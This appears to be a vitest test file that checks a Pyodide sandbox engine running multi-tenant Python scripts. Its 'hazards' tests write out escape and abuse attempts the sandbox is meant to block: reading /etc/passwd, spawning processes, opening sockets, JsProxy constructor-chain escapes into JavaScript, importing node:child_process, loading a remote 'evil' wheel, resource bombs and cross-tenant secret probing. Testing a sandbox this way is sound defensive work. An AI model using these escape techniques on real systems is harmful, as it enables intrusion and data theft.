import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isBtreePluginsError } from '../../src/errors.js';
import { PythonEngine } from '../../src/interpreters/python.js';
import type { JsonValue, ScriptOutcome, ScriptRequest } from '../../src/binding-core/interpreter-types.js';

// Shared across test files and runs: the snapshot is ours, keyed by Pyodide version + runtime hash.
const cacheDir = join(tmpdir(), 'btree-plugins-test-pyodide-cache');
const packageDir = join(import.meta.dirname, '../fixtures/python-wheels');

let engine: PythonEngine;

function request(script: string, extra: Partial<ScriptRequest> = {}): ScriptRequest {
  return { script, inputs: {}, timeoutMs: 5000, memoryLimitBytes: 192 * 2 ** 20, tenantId: 'acme', ...extra };
}
async function run(script: string, extra: Partial<ScriptRequest> = {}): Promise<ScriptOutcome> {
  return engine.run(request(script, extra));
}
async function value(script: string, extra: Partial<ScriptRequest> = {}): Promise<JsonValue> {
  const outcome = await run(script, extra);
  if (!outcome.ok) throw new Error(`expected success, got ${JSON.stringify(outcome.error)}`);
  return outcome.value;
}
async function failure(script: string, extra: Partial<ScriptRequest> = {}) {
  const outcome = await run(script, extra);
  if (outcome.ok) throw new Error(`expected a failure, got ${JSON.stringify(outcome.value)}`);
  return outcome.error;
}
/** Evaluates JavaScript inside the isolate through a JsProxy constructor chain (what an attacker would do). */
const viaConstructorChain = (js: string) =>
  `import pyodide_js\nF = pyodide_js.runPython.constructor\nresult = F(${JSON.stringify(js)})()`;

beforeAll(async () => {
  engine = new PythonEngine({ packageDir, cacheDir, maxIsolates: 4 });
  await engine.warmUp('acme');
});
afterAll(async () => {
  await engine.dispose();
  expect(engine.liveIsolates).toBe(0); // every isolate the tests caused was disposed
});

describe('PythonEngine semantics', () => {
  it('inputs become globals and result comes back as JSON', async () => {
    const out = await value('result = {"sum": sum(data["items"]) + x, "pair": (1, "a"), "none": None, "flag": True, "f": 0.5}', {
      inputs: { x: 10, data: { items: [1, 2, 3] } },
    });
    expect(out).toEqual({ sum: 16, pair: [1, 'a'], none: null, flag: true, f: 0.5 });
  });

  it('a script without result yields null', async () => {
    expect(await value('x = 1')).toBeNull();
  });

  it('the seed data-processing example runs with statistics instead of numpy', async () => {
    const script = [
      'import json',
      'import statistics',
      "data = httpResponse['data']",
      "values = [item['value'] for item in data]",
      "result = {'mean': statistics.mean(values), 'std': statistics.pstdev(values), 'count': len(values)}",
    ].join('\n');
    const out = await value(script, { inputs: { httpResponse: { data: [{ value: 2 }, { value: 4 }, { value: 4 }, { value: 4 }, { value: 5 }, { value: 5 }, { value: 7 }, { value: 9 }] } } });
    expect(out).toEqual({ mean: 5, std: 2, count: 8 });
  });

  it('print output is captured line by line', async () => {
    const outcome = await run('print("hello")\nprint("a", 1)\nimport sys\nprint("err", file=sys.stderr)\nresult = 1');
    expect(outcome).toMatchObject({ ok: true, value: 1, output: ['hello', 'a 1', 'err'] });
  });

  it('a syntax error reports the line of the script', async () => {
    expect(await failure('x = 1\ny = 2\nif x >\n  pass')).toMatchObject({ kind: 'syntax', line: 3 });
  });

  it("a runtime error reports the script's line, not the runner's", async () => {
    const error = await failure('def f(d):\n    return d["missing"]\n\nf({})');
    expect(error).toMatchObject({ kind: 'runtime', line: 2 });
    expect(error.message).toBe("KeyError: 'missing'");
  });

  it.each([
    ['NaN', 'result = {"a": [1, float("nan")]}', `result['a'][1] is nan`],
    ['Infinity', 'result = float("inf")', 'result is inf'],
    ['bytes', 'result = {"b": b"x"}', "result['b'] is a bytes"],
    ['a set', 'result = [{1, 2}]', 'result[0] is a set'],
    ['a cycle', 'a = {}\na["self"] = a\nresult = a', "result['self'] refers back"],
    ['a function', 'result = {"f": len}', "result['f'] is a builtin_function_or_method"],
    ['an int beyond 2**53', 'result = 2**60', 'result is an integer beyond'],
    ['a non-string key', 'result = {1: "x"}', 'result[1] has a key of type int'],
  ])('a result holding %s fails naming the offending path', async (_what, script, message) => {
    const error = await failure(script);
    expect(error.kind).toBe('result');
    expect(error.message).toContain(message);
  });

  it('globals are fresh each run and builtins are restored, while imported modules stay cached', async () => {
    await value('import builtins, sys, types\nbuiltins.leak = "b"\nsecret = "g"\nm = types.ModuleType("tenant_state")\nm.value = 41\nsys.modules["tenant_state"] = m');
    expect(await value('import builtins\nresult = [globals().get("secret"), hasattr(builtins, "leak")]')).toEqual([null, false]);
    // Documented: module objects persist within one tenant's warm isolate (never across tenants).
    expect(await value('import tenant_state\nresult = tenant_state.value + 1')).toBe(42);
  });

  it('the runner (compiled into the snapshot) is not a module scripts can import', async () => {
    expect(await value('import sys\nresult = [m for m in sys.modules if "btp" in m]')).toEqual([]);
    expect(await failure('import _btp_runner')).toMatchObject({ kind: 'runtime', message: expect.stringContaining("No module named '_btp_runner'") });
    // its reset state was taken in this isolate: a script that swaps stdout still has its print captured next run
    await value('import sys, io\nsys.stdout = io.StringIO()');
    expect((await run('print("still captured")')).output).toEqual(['still captured']);
  });
});

describe('PythonEngine packages', () => {
  it('a wheel from packageDir (checked against the lock sha256) can be imported', async () => {
    expect(await value('from tabulate import tabulate\nresult = tabulate([[1, 2]], headers=["a", "b"], tablefmt="plain")')).toBe('  a    b\n  1    2');
  });

  it('a package that is not in packageDir cannot be imported, even when Pyodide knows it', async () => {
    expect((await failure('import six')).message).toMatch(/ModuleNotFoundError/);
  });

  it('micropip: not reachable', async () => {
    expect((await failure('import micropip')).message).toMatch(/ModuleNotFoundError: No module named 'micropip'/);
  });

  it('loadPackage from a URL: nothing is fetched and nothing is installed', async () => {
    await value('import pyodide_js, sys\nsys.modules["probe"] = pyodide_js.loadPackage("https://example.com/evil-1.0-py3-none-any.whl")');
    expect(await value('import sys\nf = sys.modules["probe"]\nresult = [f.done(), list(f.result())]')).toEqual([true, []]);
    expect((await failure('import evil')).message).toMatch(/ModuleNotFoundError/);
    expect(await value(viaConstructorChain('return [typeof fetch, typeof XMLHttpRequest, typeof WebSocket].join()'))).toBe('undefined,undefined,undefined');
  });
});

describe('PythonEngine hazards', () => {
  const markIsolate = () => value('import sys, types\nsys.modules["isolate_marker"] = types.ModuleType("isolate_marker")');
  const isolateWasReplaced = async () => !(await value('import sys\nresult = "isolate_marker" in sys.modules'));

  it('infinite loop: times out, and the next run of the tenant works in a replaced isolate', async () => {
    await markIsolate();
    const error = await failure('while True:\n    pass', { timeoutMs: 300 });
    expect(error.kind).toBe('timeout');
    expect(await isolateWasReplaced()).toBe(true);
    expect(await value('result = 1 + 1')).toBe(2);
  });

  it('memory bomb (list growth): MemoryError, the isolate is discarded and the next run works', async () => {
    await markIsolate();
    const error = await failure('x = []\nwhile True:\n    x.append([0] * 100000)', { timeoutMs: 20_000 });
    expect(error.kind).toBe('memory');
    expect(await isolateWasReplaced()).toBe(true);
    expect(await value('result = "alive"')).toBe('alive');
  });

  it('memory bomb (bytes): one huge allocation fails with MemoryError', async () => {
    expect((await failure('b = b"x" * (2 ** 30)')).kind).toBe('memory');
    expect(await value('result = 3')).toBe(3);
  });

  it('memory bomb (JavaScript heap via the isolate): the isolate memory limit stops it', async () => {
    const error = await failure(viaConstructorChain('const a = []; while (true) a.push(new Array(1e5).fill(1.5));'), { timeoutMs: 20_000 });
    expect(error.kind).toBe('memory');
    expect(await value('result = 4')).toBe(4);
  });

  it('wasm memory outside the cap: unbounded or oversized WebAssembly memories are refused', async () => {
    const js = `const r = [];
      for (const d of [{ initial: 16384 }, { initial: 1, maximum: 65536 }]) {
        try { new WebAssembly.Memory(d); r.push('CREATED'); } catch (e) { r.push(e.message); }
      }
      try { new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0,5,3,1,0,1])); r.push('CREATED'); } catch (e) { r.push(e.message); }
      try { WebAssembly.Memory = null; } catch (e) {}
      r.push(typeof WebAssembly.Memory);
      return r.join('|');`;
    const out = String(await value(viaConstructorChain(js))).split('|');
    expect(out.slice(0, 3).every((m) => m.startsWith('sandbox:'))).toBe(true);
    expect(out[3]).toBe('function');
  });

  it('recursion bomb: RecursionError reports the line; a raised limit cannot crash the host', async () => {
    const error = await failure('def f(n):\n    return f(n + 1)\nf(0)');
    expect(error).toMatchObject({ kind: 'memory', line: 2 });
    expect(error.message).toMatch(/RecursionError/);
    const deep = await failure('import sys\nsys.setrecursionlimit(10**7)\ndef f(n):\n    return f(n + 1)\nf(0)', { timeoutMs: 20_000 });
    expect(deep.kind).toBe('memory');
    expect(await value('import sys\nresult = sys.getrecursionlimit() < 10**7')).toBe(true);
  });

  it('huge output (result): a result over the cap fails with kind result', async () => {
    const error = await failure('result = "x" * 2000', { maxResultBytes: 1000 });
    expect(error.kind).toBe('result');
    expect(error.message).toContain('more than the limit of 1000');
  });

  it('huge print: output is truncated at the caps and the run still succeeds', async () => {
    const outcome = await run('for i in range(100000):\n    print("line", i)\nprint("y" * 10**6)\nresult = "done"', {
      maxOutputLines: 50,
      maxOutputBytes: 2000,
    });
    expect(outcome).toMatchObject({ ok: true, value: 'done', truncatedOutput: true });
    const lines = outcome.output.slice(0, -1);
    expect(lines.length).toBeLessThanOrEqual(50);
    expect(lines.join('').length).toBeLessThanOrEqual(2000);
    expect(lines[0]).toBe('line 0');
    expect(outcome.output.at(-1)).toMatch(/^… output truncated: \d+ more lines dropped$/);
  });

  it('import js: the js module is empty (no process, require, eval, fetch)', async () => {
    const names = (await value('import js\nresult = [k for k in dir(js) if not k.startswith("_")]')) as string[];
    for (const name of ['process', 'require', 'eval', 'fetch', 'globalThis', 'Function']) expect(names).not.toContain(name);
    expect((await failure('import js\nresult = js.process')).message).toMatch(/AttributeError/);
  });

  it('pyodide_js: reachable, but its realm is the isolate (no process, require, module, host bridge)', async () => {
    const out = await value(
      viaConstructorChain(
        'return [typeof process, typeof require, typeof module, typeof Buffer, typeof setImmediate, typeof __btpHost, typeof __btpPrelude].join()',
      ),
    );
    expect(out).toBe('undefined,undefined,undefined,undefined,undefined,undefined,undefined');
  });

  it('_pyodide_core: functions it creates lead only into the isolate realm', async () => {
    const out = await value(
      'import _pyodide_core\nf = _pyodide_core.create_once_callable(lambda: 1)\nF = f.constructor.constructor\nresult = F("return [typeof process, typeof require].join()")()',
    );
    expect(out).toBe('undefined,undefined');
  });

  it('JsProxy constructor chains: dynamic import of node modules is refused inside the isolate', async () => {
    await value(
      viaConstructorChain(
        "globalThis.probe = 'pending'; import('node:child_process').then(() => { globalThis.probe = 'IMPORTED' }, (e) => { globalThis.probe = 'refused' }); return 1",
      ),
    );
    expect(await value(viaConstructorChain('return String(globalThis.probe)'))).not.toBe('IMPORTED');
  });

  it('runaway microtask: JavaScript queued by the script to run after it returns is stopped by the timeout', async () => {
    const error = await failure(viaConstructorChain('Promise.resolve().then(() => { while (true) {} }); return 1'), { timeoutMs: 500 });
    expect(error.kind).toBe('timeout');
    expect(await value('result = 6')).toBe(6);
  });

  it('pyodide.code.run_js: there is no eval to reach', async () => {
    expect((await failure('from pyodide.code import run_js\nresult = run_js("typeof process")')).kind).toBe('runtime');
  });

  it('mountNodeFS: refused (the isolate is not Node)', async () => {
    expect((await failure('import pyodide_js\npyodide_js.mountNodeFS("/host", "/")')).message).toMatch(/only works in Node/);
  });

  it("open('/etc/passwd'): only the in-isolate MEMFS exists; no host file is readable", async () => {
    const dir = await mkdtemp(join(tmpdir(), 'btp-host-'));
    try {
      const secretFile = join(dir, 'secret.txt');
      await writeFile(secretFile, 'host secret');
      expect((await failure("result = open('/etc/passwd').read()")).message).toMatch(/FileNotFoundError/);
      expect((await failure(`result = open(${JSON.stringify(secretFile)}).read()`)).message).toMatch(/FileNotFoundError/);
      const root = (await value('import os\nresult = sorted(os.listdir("/"))')) as string[];
      expect(root).not.toContain('etc');
      expect(root).not.toContain('root');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('os.system and subprocess: no processes can be started', async () => {
    expect(await value('import os\nresult = os.system("id")')).not.toBe(0);
    expect((await failure('import subprocess\nsubprocess.run(["id"])')).message).toMatch(/does not support processes/);
  });

  it('sockets: socket.socket().connect fails', async () => {
    expect((await failure('import socket\ns = socket.socket()\ns.connect(("127.0.0.1", 22))')).message).toMatch(/OSError/);
  });

  it("another tenant's earlier result: a warm interpreter of tenant B sees nothing of tenant A", async () => {
    await value(
      'import sys, types\nm = types.ModuleType("stash")\nm.secret = "A-secret"\nsys.modules["stash"] = m\nresult = "A-secret"\n' +
        'import pyodide_js\npyodide_js.runPython.constructor("globalThis.stash = \'A-secret\'")()',
      { tenantId: 'tenant-a' },
    );
    await engine.warmUp('tenant-b');
    const probe = [
      'import sys, gc',
      'found = "stash" in sys.modules',
      'import pyodide_js',
      'js_found = pyodide_js.runPython.constructor("return String(globalThis.stash)")()',
      'strings = [o for o in gc.get_objects() if isinstance(o, dict) and "A-secret" in o.values()]',
      'result = [found, js_found, len(strings)]',
    ].join('\n');
    expect(await value(probe, { tenantId: 'tenant-b' })).toEqual([false, 'undefined', 0]);
    expect(await value('import stash\nresult = stash.secret', { tenantId: 'tenant-a' })).toBe('A-secret');
  });

  it('aborted run: the signal stops the script and the isolate is replaced', async () => {
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 200);
    const error = await failure('while True:\n    pass', { signal: controller.signal, timeoutMs: 20_000 });
    expect(error.kind).toBe('aborted');
    expect(await value('result = 5')).toBe(5);
  });

  it('the snapshot is cached on disk under cacheDir, keyed by the Pyodide version', async () => {
    const files = await readdir(cacheDir);
    expect(files.some((f) => /^pyodide-314\.0\.7-[0-9a-f]+-\d+\.snapshot$/.test(f))).toBe(true);
  });
});

describe('PythonEngine lifecycle', () => {
  it('run after dispose throws DisposedError', async () => {
    const other = new PythonEngine({ cacheDir });
    await other.dispose();
    const error = await other.run(request('result = 1')).catch((e: unknown) => e);
    expect(isBtreePluginsError(error, 'DisposedError')).toBe(true);
  });
});
